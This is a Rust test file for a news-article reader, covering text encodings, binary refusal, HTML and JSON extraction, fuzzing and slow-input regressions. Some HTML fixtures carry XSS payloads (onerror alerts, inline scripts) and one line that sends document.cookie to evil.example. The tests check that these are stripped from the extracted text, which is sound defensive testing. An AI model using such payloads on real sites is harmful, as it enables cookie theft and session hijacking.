use super::*;

fn one(file: &str, bytes: &[u8]) -> Document {
    let mut docs = read_files(file, bytes).unwrap_or_else(|e| panic!("{file}: {e}"));
    assert_eq!(docs.len(), 1, "{file}");
    docs.remove(0)
}

fn err(file: &str, bytes: &[u8]) -> String {
    read_files(file, bytes).unwrap_err().to_string()
}

fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn reads_text_and_title() {
    let d = read_file("a.txt", " date 2025-05-13 Türkiye gears up\n\nANKARA\n\nBody.".as_bytes()).unwrap();
    assert_eq!(d.title, "Türkiye gears up");
    assert!(d.warnings.is_empty());
    assert_eq!(d.published, None);
    let d = read_file("b.md", b"Intro\n# The heading\ntext").unwrap();
    assert_eq!(d.title, "The heading");
}

#[test]
fn refuses_binaries_by_their_signature_or_name() {
    let cases: &[(&str, &[u8], &str)] = &[
        ("report.pdf", b"%PDF-1.7 ...", "file report.pdf: not a text article (looks like PDF)"),
        (
            "x.docx",
            b"PK\x03\x04....",
            "file x.docx: not a text article (looks like a ZIP archive or Office document)",
        ),
        (
            "a.zip",
            b"PK\x03\x04\x14\x00",
            "file a.zip: not a text article (looks like a ZIP archive or Office document)",
        ),
        ("p.png", b"\x89PNG\r\n\x1a\n\x00\x00", "file p.png: not a text article (looks like a PNG image)"),
        ("scan.txt", b"%PDF-1.4\n%\xE2\xE3", "file scan.txt: not a text article (looks like PDF)"),
        (
            "blob.bin",
            b"abc\x00\x01\x02\x03def\x00\x00\xff\xfe\x00x",
            "file blob.bin: not a text article (looks like binary data)",
        ),
        ("notes.doc", b"plain words", "file notes.doc: not a text article (looks like a Word document)"),
        (
            "ctl.txt",
            b"\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11 a b c",
            "file ctl.txt: not a text article (looks like binary data)",
        ),
    ];
    for (file, bytes, message) in cases {
        assert_eq!(err(file, bytes), *message);
    }
}

#[test]
fn empty_files_are_refused() {
    assert_eq!(err("empty.txt", b"  \n "), "file empty.txt: no text in this file");
    assert_eq!(err("none.txt", b""), "file none.txt: no text in this file");
    assert_eq!(err("page.html", b"<html><body></body></html>"), "file page.html: no text in this file");
}

#[test]
fn files_over_the_limit_are_refused_with_their_size() {
    let big = vec![b'a'; MAX_FILE_BYTES + 1];
    assert_eq!(err("big.txt", &big), "file big.txt: too large (20 MB; the limit is 20 MB)");
    let big = vec![b'a'; 52_400_000];
    assert_eq!(err("huge.txt", &big), "file huge.txt: too large (52.4 MB; the limit is 20 MB)");
}

#[test]
fn encodings() {
    // Windows-1252, detected.
    let d = one("w.txt", b"Caf\xE9 talks in K\xF6ln: \x93peace\x94 \x96 the minister said.");
    assert_eq!(d.text, "Café talks in Köln: “peace” – the minister said.");
    assert!(d.warnings.iter().any(|w| w.contains("windows-1252")), "{:?}", d.warnings);
    // UTF-8 with a byte-order mark: the mark is not text.
    let d = one("bom.txt", "\u{FEFF}Erdoğan met Putin.".as_bytes());
    assert_eq!(d.text, "Erdoğan met Putin.");
    assert!(d.warnings.is_empty());
    // UTF-16LE with and without its mark, UTF-16BE with its mark.
    let text = "Erdoğan met Putin in Sochi.\nThey talked.";
    let mut with_bom = b"\xFF\xFE".to_vec();
    with_bom.extend(utf16le(text));
    assert_eq!(one("le.txt", &with_bom).text, text);
    let d = one("le-nobom.txt", &utf16le(text));
    assert_eq!(d.text, text);
    let mut be = b"\xFE\xFF".to_vec();
    be.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
    assert_eq!(one("be.txt", &be).text, text);
    // Invalid UTF-8 amid valid UTF-8: replaced, with a warning naming the encoding.
    let d = one(
        "mixed.txt",
        "Erdoğan said \u{201C}yes\u{201D} "
            .as_bytes()
            .iter()
            .chain(b"\xFF ok.")
            .copied()
            .collect::<Vec<u8>>()
            .as_slice(),
    );
    assert_eq!(d.text, "Erdoğan said “yes” \u{FFFD} ok.");
    assert_eq!(d.warnings, ["bytes invalid in UTF-8 (mostly valid) were replaced with \u{FFFD}"]);
}

#[test]
fn html_meta_charset_is_followed() {
    let page = b"<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\">\
<title>Caf\xE9</title></head><body><article><p>Le caf\xE9 de la gare a rouvert ses portes lundi matin, \
apr\xE8s des mois de travaux, a annonc\xE9 la mairie dans un communiqu\xE9.</p></article></body></html>";
    let d = one("cafe.html", page);
    assert!(d.text.contains("Le café de la gare"), "{}", d.text);
    assert!(d.text.contains("après des mois"));
    let page = b"<html><head><meta charset='windows-1251'></head><body><p>\xcf\xf3\xf2\xe8\xed \xe7\xe0\xff\xe2\xe8\xeb.</p></body></html>";
    assert!(one("ru.html", page).text.contains("Путин заявил."));
}

const PAGE: &str = r#"<!DOCTYPE html>
<html lang="en"><head>
<meta charset="utf-8">
<title>Erdogan and Putin talk peace | The Daily News</title>
<meta name="author" content="Jane Reporter">
<meta property="og:url" content="https://daily.example/world/erdogan-putin">
<link rel="canonical" href="https://daily.example/world/erdogan-putin">
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle",
 "headline":"Erdogan and Putin talk peace","datePublished":"2025-11-24T18:05:00+03:00",
 "author":{"@type":"Person","name":"Jane Reporter"}}</script>
<script>var tracker = "SCRIPT-CONTENT-MUST-NOT-APPEAR"; document.write(tracker);</script>
<style>.x { content: "STYLE-CONTENT" }</style>
</head><body>
<header><nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li><li><a href="/sport">Sport</a></li></ul></nav></header>
<div class="ad-banner">Advertisement: buy now</div>
<main><article>
<h1>Erdogan and Putin talk peace</h1>
<p class="byline">By Jane Reporter</p>
<p>Turkish President Recep Tayyip Erdogan and Russian leader Vladimir Putin confirmed on Monday their
readiness to expand bilateral dialogue and to work directly in negotiations to reach a peace agreement.</p>
<img src="x.jpg" onerror="alert('ONERROR-PAYLOAD')">
<figure><img src="a.jpg"><figcaption>Photo by Murat Cetinmuhurdar/Anadolu via Getty Images</figcaption></figure>
<p>According to the Kremlin statement, Putin and Erdogan discussed expanding trade and energy relations,
but devoted a large part of the conversation to the situation in Ukraine.</p>
<script>alert("INLINE-SCRIPT")</script>
<p>Erdogan stressed that Ankara will continue its efforts to end the war with a just and lasting
peace, and that Türkiye is ready to host direct talks between Moscow and Kyiv in Istanbul.</p>
</article></main>
<aside><h3>Read also</h3><ul><li><a href="/a">Trump announced progress with Xi</a></li><li><a href="/b">Europe's counter-proposal</a></li></ul></aside>
<footer><p>© 2025 The Daily News. All rights reserved.</p><a href="/privacy">Privacy</a></footer>
</body></html>"#;

#[test]
fn html_main_text_and_metadata() {
    let d = one("talk.html", PAGE.as_bytes());
    assert!(d.text.starts_with("Turkish President Recep Tayyip Erdogan"), "{}", d.text);
    assert!(d.text.contains("just and lasting peace"));
    for gone in [
        "SCRIPT-CONTENT",
        "STYLE-CONTENT",
        "ONERROR",
        "INLINE-SCRIPT",
        "alert",
        "Home",
        "Sport",
        "Trump announced",
        "All rights reserved",
        "Getty Images",
        "<p>",
    ] {
        assert!(!d.text.contains(gone), "{gone:?} in {:?}", d.text);
    }
    assert_eq!(d.title, "Erdogan and Putin talk peace");
    assert_eq!(d.byline.as_deref(), Some("Jane Reporter"));
    assert_eq!(d.url.as_deref(), Some("https://daily.example/world/erdogan-putin"));
    let p = d.published.unwrap();
    assert_eq!(p.date.to_string(), "2025-11-24");
    assert!(p.reason.contains("JSON-LD datePublished"), "{}", p.reason);
    assert!(!p.by_user);
}

#[test]
fn html_is_sniffed_from_content_and_scripts_never_leak() {
    let d = one("saved.txt", PAGE.as_bytes());
    assert!(d.text.starts_with("Turkish President"), "{}", d.text);
    let payload = b"<html><body><p>Short note about talks.</p><img src=x onerror=alert(1)>\
<script>fetch('https://evil.example/?c='+document.cookie)</script><noscript>NOSCRIPT</noscript>\
<svg><script>SVG-SCRIPT</script></svg></body></html>";
    let d = one("x.htm", payload);
    assert!(d.text.contains("Short note about talks."), "{}", d.text);
    for gone in ["evil", "cookie", "alert", "SVG-SCRIPT", "onerror"] {
        assert!(!d.text.contains(gone), "{gone:?} in {:?}", d.text);
    }
}

#[test]
fn plain_text_boilerplate_is_removed_when_the_text_is_built() {
    let text = include_str!("../../../seeds/004_80507271b0520eef.txt");
    let d = one("004.txt", text.as_bytes());
    assert_eq!(
        d.title,
        "Türkiye intensifies its contacts with Russia regarding the peace agreement in Ukraine"
    );
    for gone in ["GettyImages-1243932531.jpg", "Anadolu Agency/Getty Images 2 of 3", "(Photo by", "Read also"]
    {
        assert!(!d.text.contains(gone), "{gone}");
    }
    assert!(d.text.contains("Erdogan wants to resume the Istanbul process"));
    let d = one("s.md", b"# Talks\n\nLeaders met.\n\nShare this article\nFollow us on X\n\nThey agreed.\n");
    assert_eq!(d.text, "# Talks\n\nLeaders met.\n\nThey agreed.\n");
}

#[test]
fn json_array_object_and_lines() {
    let array = br#"[
      {"title": "First", "text": "Leaders met in Ankara on Monday.", "date": "2025-11-24", "url": "https://ex.com/1", "author": ["A. One", "B. Two"]},
      {"headline": "Second", "body": "<p>Talks went on.</p><script>alert(1)</script>", "published_at": "2025-11-25T10:00:00Z"},
      {"id": 3}
    ]"#;
    let docs = read_files("feed.json", array).unwrap();
    assert_eq!(docs.len(), 2);
    assert_eq!(docs[0].file, "feed.json#1");
    assert_eq!(docs[0].title, "First");
    assert_eq!(docs[0].text, "Leaders met in Ankara on Monday.");
    assert_eq!(docs[0].url.as_deref(), Some("https://ex.com/1"));
    assert_eq!(docs[0].byline.as_deref(), Some("A. One, B. Two"));
    let p = docs[0].published.as_ref().unwrap();
    assert_eq!((p.date.to_string().as_str(), p.by_user), ("2025-11-24", false));
    assert!(p.reason.contains("\"date\""), "{}", p.reason);
    assert!(docs[0].warnings.iter().any(|w| w.contains("1 item(s) without text")), "{:?}", docs[0].warnings);
    assert_eq!(docs[1].file, "feed.json#2");
    assert_eq!(docs[1].text, "Talks went on.");
    assert_eq!(docs[1].published.as_ref().unwrap().date.to_string(), "2025-11-25");

    let d = one("one.json", br#"{"headline": "Only", "content": {"rendered": "<p>A &amp; B met.</p>"}}"#);
    assert_eq!((d.file.as_str(), d.title.as_str(), d.text.as_str()), ("one.json", "Only", "A & B met."));

    let wrapped = br#"{"status": "ok", "articles": [{"title": "W", "description": "Short item."}]}"#;
    assert_eq!(one("w.json", wrapped).text, "Short item.");

    let lines = b"{\"title\":\"L1\",\"text\":\"One.\"}\n\n{\"title\":\"L2\",\"article\":\"Two.\"}\n";
    let docs = read_files("news.jsonl", lines).unwrap();
    assert_eq!(docs.iter().map(|d| d.text.as_str()).collect::<Vec<_>>(), ["One.", "Two."]);
    // JSON Lines with no extension known as JSON, sniffed.
    assert_eq!(read_files("news.ndjson", lines).unwrap().len(), 2);
    assert_eq!(read_files("dump", lines).unwrap().len(), 2);

    assert!(err("bad.json", b"{\"text\": ").starts_with("file bad.json: not readable as JSON: "));
    assert_eq!(
        err("nums.json", b"[1, 2, 3]"),
        "file nums.json: not readable as JSON: no article found: expected objects with a text, body, content, article field"
    );
}

#[test]
fn our_export_is_restored_with_the_users_dates() {
    let export = br#"{"schema": 1,
      "articles": [
        {"id": "a1", "file": "call.txt", "title": "The call", "published": "2025-11-24",
         "published_reason": "set by the user", "published_source": "user", "published_inferred": false,
         "warnings": [], "text": "Erdogan spoke with Putin on Monday."},
        {"id": "a2", "file": "2025-11-20-other.txt", "title": "Other", "published": "2025-11-20",
         "published_reason": "in the file name", "published_source": "file_name", "published_inferred": false,
         "warnings": ["w"], "text": "Leaders met.\n\nShare this article"}
      ],
      "events": [{"id": "e1"}]}"#;
    let docs = read_files("dateline.json", export).unwrap();
    assert_eq!(docs.len(), 2);
    assert_eq!((docs[0].file.as_str(), docs[0].title.as_str()), ("call.txt", "The call"));
    let p = docs[0].published.as_ref().unwrap();
    assert_eq!((p.date.to_string().as_str(), p.by_user), ("2025-11-24", true));
    assert_eq!(docs[1].published, None, "a date from the file name is found again");
    assert_eq!(docs[1].text, "Leaders met.\n\nShare this article", "restored as it was analysed");
    assert_eq!(docs[1].warnings, ["w"]);
}

#[test]
fn read_file_keeps_the_first_of_several() {
    let d = read_file("f.json", br#"[{"text":"One."},{"text":"Two."}]"#).unwrap();
    assert_eq!(d.text, "One.");
    assert!(d.warnings.iter().any(|w| w.contains("1 more")));
}

#[test]
fn unknown_extensions_are_read_as_text_with_a_warning() {
    let d = one("notes.log", b"Leaders met on Monday.");
    assert_eq!(d.text, "Leaders met on Monday.");
    assert_eq!(d.warnings, [".log is not a known article format: read as plain text"]);
}

/// `read_plain` (the page's module) reads what it can exactly as `read_files` does, and
/// leaves the rest, by name, to the full reader.
#[test]
fn the_plain_reader_reads_unicode_text_and_json_as_the_full_one_and_leaves_the_rest() {
    let mut utf16be_bom = vec![0xFE, 0xFF];
    utf16be_bom.extend("Leaders met on Monday in Ankara.".encode_utf16().flat_map(u16::to_be_bytes));
    let mut utf16le_bom = vec![0xFF, 0xFE];
    utf16le_bom.extend(utf16le("Erdoğan called Putin.\n\nThe two spoke on Monday."));
    let plain: &[(&str, &[u8])] = &[
        ("a.txt", "Türkiye gears up\n\nANKARA\n\nErdoğan met Putin on Monday.".as_bytes()),
        ("b.md", b"# The heading\n\nLeaders met."),
        ("c.txt", b"\xEF\xBB\xBFWith a byte-order mark."),
        ("d.txt", &utf16be_bom),
        ("e.txt", &utf16le_bom),
        ("f.txt", &utf16le("No mark, UTF-16 by its NULs: leaders met on Monday.")),
        ("g.txt", b"Mostly UTF-8 \xC3\xA9\xC3\xA9\xC3\xA9 with one bad byte \xFF here."),
        ("h.json", br#"[{"title": "Talks", "text": "Leaders met on Monday.", "date": "2025-03-05"}]"#),
        ("i.txt", b"%PDF-1.7 binary"),
        ("j.txt", b"   "),
    ];
    for (name, bytes) in plain {
        assert!(!needs_reader(name, bytes), "{name}");
        let full = read_files(name, bytes).map_err(|e| e.to_string());
        let lean = read_plain(name, bytes).map_err(|e| e.to_string());
        assert_eq!(lean, full, "{name}");
    }
    let full_only: &[(&str, &[u8])] = &[
        ("page.html", b"<html><body><p>Leaders met.</p></body></html>"),
        (
            "saved.txt",
            b"<!DOCTYPE html><html><head><title>T</title></head><body><p>Leaders met.</p></body></html>",
        ),
        ("latin1.txt", b"Caf\xE9 cr\xE8me: the leaders met \xE0 Paris, d\xE9j\xE0 vu, \xE9t\xE9."),
        ("feed.json", br#"[{"title": "Talks", "content": "<p>Leaders met.</p>"}]"#),
        ("q.json", br#"[{"title": "Q&amp;A", "text": "Leaders met."}]"#),
    ];
    for (name, bytes) in full_only {
        assert!(needs_reader(name, bytes), "{name}");
        let e = read_plain(name, bytes).unwrap_err();
        assert!(e.needs_reader(), "{name}: {e}");
        assert!(e.to_string().starts_with(&format!("file {name}: ")), "{e}");
        assert!(read_files(name, bytes).is_ok(), "{name}");
    }
}

mod property {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn the_plain_reader_agrees_with_the_full_one_or_leaves_the_file_to_it(
            ext in prop::sample::select(vec!["", ".txt", ".md", ".json", ".html", ".bin"]),
            bytes in prop::collection::vec(any::<u8>(), 0..1024),
            text in "\\PC{0,200}",
        ) {
            for input in [bytes.as_slice(), text.as_bytes()] {
                let name = format!("x{ext}");
                match read_plain(&name, input) {
                    Err(e) if e.needs_reader() => prop_assert!(needs_reader(&name, input)),
                    lean => {
                        prop_assert!(!needs_reader(&name, input));
                        prop_assert_eq!(lean, read_files(&name, input));
                    }
                }
            }
        }

        #[test]
        fn read_files_never_panics(
            file in "\\PC{0,24}",
            ext in prop::sample::select(vec!["", ".txt", ".md", ".html", ".htm", ".json", ".jsonl", ".pdf", ".bin"]),
            bytes in prop::collection::vec(any::<u8>(), 0..2048),
        ) {
            let name = format!("{file}{ext}");
            if let Ok(docs) = read_files(&name, &bytes) {
                prop_assert!(!docs.is_empty());
                for d in docs {
                    prop_assert!(!d.text.trim().is_empty());
                }
            }
        }

        #[test]
        fn structured_inputs_never_panic(
            prefix in prop::sample::select(vec!["<html><body><p>", "[{\"text\":\"", "{\"articles\":[{\"body\":\"", "\u{FEFF}", "<meta charset=\"", "\u{FF}\u{FE}"]),
            body in "\\PC{0,200}",
            ext in prop::sample::select(vec![".txt", ".html", ".json"]),
        ) {
            let _ = read_files(&format!("x{ext}"), format!("{prefix}{body}").as_bytes());
        }
    }

    /// What ingest reads goes on to the analysis: it must not panic there either.
    mod analysis {
        use super::*;
        use crate::analysis::Analyzer;

        const SEEDS: &[&str] = &[
            include_str!("../../../seeds/000_647321a723405cb3.txt"),
            include_str!("../../../seeds/001_bd624f9f1055fe63.txt"),
            include_str!("../../../seeds/002_2e17ffcbbdb7b696.txt"),
            include_str!("../../../seeds/003_ef047f98b842d2d5.txt"),
            include_str!("../../../seeds/004_80507271b0520eef.txt"),
        ];

        /// Fragments that steer the tagger, the actor finder and the trigger lexicon.
        const PIECES: &[&str] = &[
            "on Monday",
            "last week",
            "(11/24)",
            "Monday, Nov. 24",
            "date 2025-05-13",
            "President ",
            "Recep Tayyip Erdoğan",
            "spoke by phone with",
            "met",
            "the call",
            " he ",
            "\n",
            "\n\n",
            ". ",
            "“",
            "”",
            "\u{FFFD}",
            "\u{0301}",
            "İ",
            "ß",
            "ﬁ",
            "🇹🇷",
            "\r\n",
            "\t",
            "  ",
            "-",
            "Ankara",
            "in",
            "NATO",
            "the Coalition of the Willing",
            "Read also",
            "# ",
            "2025",
            "12:30",
            "Q3",
            "W48",
        ];

        /// One edit at a fraction of the text: delete a range, insert a piece or a random
        /// string, or duplicate a range.
        #[derive(Clone, Debug)]
        enum Edit {
            Delete(f64, usize),
            Insert(f64, &'static str),
            InsertAny(f64, String),
            Duplicate(f64, usize),
        }

        fn edit() -> impl Strategy<Value = Edit> {
            prop_oneof![
                (0.0..1.0f64, 0usize..200).prop_map(|(p, n)| Edit::Delete(p, n)),
                (0.0..1.0f64, prop::sample::select(PIECES)).prop_map(|(p, s)| Edit::Insert(p, s)),
                (0.0..1.0f64, "\\PC{0,12}").prop_map(|(p, s)| Edit::InsertAny(p, s)),
                (0.0..1.0f64, 0usize..400).prop_map(|(p, n)| Edit::Duplicate(p, n)),
            ]
        }

        /// The char boundary nearest a fraction of the text.
        fn at(text: &str, p: f64) -> usize {
            let mut i = ((text.len() as f64) * p) as usize;
            while i < text.len() && !text.is_char_boundary(i) {
                i += 1;
            }
            i.min(text.len())
        }

        fn end_of(text: &str, start: usize, n: usize) -> usize {
            let mut e = (start + n).min(text.len());
            while !text.is_char_boundary(e) {
                e += 1;
            }
            e
        }

        fn apply(text: &mut String, e: &Edit) {
            match e {
                Edit::Delete(p, n) => {
                    let s = at(text, *p);
                    let end = end_of(text, s, *n);
                    text.replace_range(s..end, "");
                }
                Edit::Insert(p, piece) => text.insert_str(at(text, *p), piece),
                Edit::InsertAny(p, piece) => text.insert_str(at(text, *p), piece),
                Edit::Duplicate(p, n) => {
                    let s = at(text, *p);
                    let copy = text[s..end_of(text, s, *n)].to_string();
                    text.insert_str(s, &copy);
                }
            }
        }

        fn check(docs: &[Document]) -> Result<(), TestCaseError> {
            let analysis = Analyzer::builder(jiff::civil::date(2026, 11, 22)).build().analyze(docs);
            prop_assert_eq!(analysis.articles.len(), docs.len());
            for ev in &analysis.events {
                for s in &ev.sources {
                    let a = analysis.articles.iter().find(|a| a.id == s.article).unwrap();
                    prop_assert_eq!(a.text.get(s.start..s.end), Some(s.sentence.as_str()));
                }
            }
            Ok(())
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(64))]

            #[test]
            fn analyze_never_panics_on_arbitrary_text(
                texts in prop::collection::vec("\\PC{0,400}", 1..4),
                bytes in prop::collection::vec(any::<u8>(), 0..400),
            ) {
                let mut docs: Vec<Document> =
                    texts.iter().enumerate().map(|(i, t)| Document::from_text(format!("t{i}.txt"), t.as_str())).collect();
                docs.push(Document::from_text("2025-11-25-bytes.txt", String::from_utf8_lossy(&bytes)));
                check(&docs)?;
            }

            #[test]
            fn analyze_never_panics_on_mutated_seed_articles(
                picks in prop::collection::vec((0..SEEDS.len(), prop::collection::vec(edit(), 1..12)), 1..3),
            ) {
                let mut docs = Vec::new();
                for (i, (seed, edits)) in picks.iter().enumerate() {
                    let mut text = SEEDS[*seed].to_string();
                    for e in edits {
                        apply(&mut text, e);
                    }
                    // Through ingest, as a dropped file would go.
                    if let Ok(read) = read_files(&format!("seed{i}.txt"), text.as_bytes()) {
                        docs.extend(read);
                    }
                    docs.push(Document::from_text(format!("raw{i}.txt"), text));
                }
                check(&docs)?;
            }
        }
    }
}

/// Inputs that once took minutes (the tree builder and Readability, and the search
/// for a date line, took time in proportion to the square of their size): each now
/// reads in well under a second.
mod regression {
    use super::*;
    use crate::analysis::Analyzer;

    #[test]
    fn ten_thousand_nested_divs_are_read_without_the_deep_tags() {
        let page = format!(
            "<html><body>{}<p>Leaders met in Oslo on 3 May 2024.</p>{}</body></html>",
            "<div>".repeat(10_000),
            "</div>".repeat(10_000)
        );
        let d = one("deep.html", page.as_bytes());
        assert_eq!(d.text, "Leaders met in Oslo on 3 May 2024.");
        assert_eq!(
            d.warnings,
            ["the page is nested 10002 levels deep: tags below level 512 were left out, their text kept"]
        );
    }

    #[test]
    fn ten_thousand_unclosed_formatting_tags_are_read() {
        let page = format!("<html><body>{}<p>Leaders met in Oslo.</p>", "<div><span><b><i>".repeat(10_000));
        assert_eq!(one("unclosed.html", page.as_bytes()).text, "Leaders met in Oslo.");
    }

    #[test]
    fn deeply_nested_html_in_a_json_body_is_read() {
        let body = format!("{}<p>Leaders met.</p>{}", "<div>".repeat(10_000), "</div>".repeat(10_000));
        let json = serde_json::json!([{ "title": "Deep", "body": body }]).to_string();
        assert_eq!(one("deep.json", json.as_bytes()).text, "Leaders met.");
    }

    #[test]
    fn a_200_kb_sentence_on_one_line_is_analysed() {
        let sentence = "Finnish President Alexander Stubb met Estonian Prime Minister Kristen Michal in \
                        Helsinki on 18 November 2025 and they talked about energy, ";
        let text = sentence.repeat(200_000 / sentence.len());
        let d = one("long.txt", text.as_bytes());
        let analysis = Analyzer::builder(jiff::civil::date(2026, 11, 22)).build().analyze(&[d]);
        assert!(analysis.events.iter().all(|e| e.sources.iter().all(|s| s.end - s.start <= 2_000)));
    }

    /// Open: the time tagger takes time in proportion to the square of a run of text
    /// without spaces (56 KB: 20 s in a debug build).
    #[test]
    #[ignore = "open: the time tagger is quadratic on long runs without spaces"]
    fn a_56_kb_run_without_spaces_is_analysed() {
        let text = "Erdogan,met,Putin,on,Monday,".repeat(2_000);
        let _ = Analyzer::builder(jiff::civil::date(2026, 11, 22))
            .build()
            .analyze(&[Document::from_text("run.txt", text)]);
    }
}
